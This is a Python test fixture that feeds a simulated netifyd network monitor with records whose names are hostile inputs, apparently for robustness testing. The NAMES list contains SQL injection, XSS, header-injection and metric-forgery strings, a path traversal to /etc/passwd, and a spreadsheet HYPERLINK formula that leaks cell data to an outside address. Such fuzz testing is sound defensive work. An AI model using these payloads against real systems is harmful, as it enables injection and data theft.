"""A network whose devices, applications, protocols and hosts have hostile names."""

from __future__ import annotations

import json

from real_store import Netifyd

NAMES = (
    '"',
    "\\",
    "'; DROP TABLE devices; --",
    "<script>alert(document.domain)</script>",
    '"><img src=x onerror=alert(1)>',
    "\x00\x01\x02\x1b[31m\x07\x7f\x85",
    "first\r\nSet-Cookie: second=1\r\n\r\n",
    '"} 1\nnetify_agent_redis_up{forged="yes"} 0\n# TYPE',
    "\ud800",
    "before\udfffafter\ud83d",
    "\u2028\u2029\ufeff\u202ereversed",
    "h" * 65536,
    "é" * 10922,  # 64 KiB when escaped in JSON
    "😀" * 300,
    "{{7*7}}${7*7}%s%n%x",
    "../../../../etc/passwd",
    "?limit=1&x=y#z",
    "a|b;c=d,e f",
    " ",
    "null",
    "*",
    "\t",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"click")',
    "+1-1",
    "@SUM(A1:A9)",
    "-2+3",
)


def device(number: int) -> str:
    """The MAC address of the device with this number."""
    return f"02:00:00:00:66:{number:02x}"


def payloads() -> list[bytes]:
    """netifyd's records of the network. Lone surrogates are sent as JSON escapes."""
    netifyd = Netifyd()
    records = []
    for number, name in enumerate(NAMES):
        described = {"dhcp": {"fingerprint": name, "class_ident": name}, "local_port": 68, "other_port": 67}
        traffic = {
            "ssl": {"client_sni": name, "server_cn": name, "issuer_dn": name},
            "http": {"url": name, "user_agent": name},
            "mdns": {"answer": f"{name}.local"},
            "detected_protocol_name": name,
        }
        for part, fields in enumerate((described, traffic)):
            digest = f"{number:038x}{part:02x}"
            records.append(
                netifyd.flow(
                    digest,
                    device(number),
                    name,
                    host_server_name=name,
                    dns_host_name=name,
                    local_ip=f"192.168.66.{number + 1}",
                    risks={"ndpi_risk_score": 60, "risks": [number, name]},
                    **fields,
                )
                | {"interface": name}
            )
            records.append(netifyd.stats(digest, 100 + number, 200 + number))
    records.append({"type": "agent_hello", "agent_version": NAMES[7], "build_version": NAMES[8]})
    records.append({"type": "agent_status", "uptime": 1, "stats": {name: {"raw": 1} for name in NAMES}})
    records.append({"type": NAMES[5], "flow": {}})
    return [json.dumps(record).encode() + b"\n" for record in records]
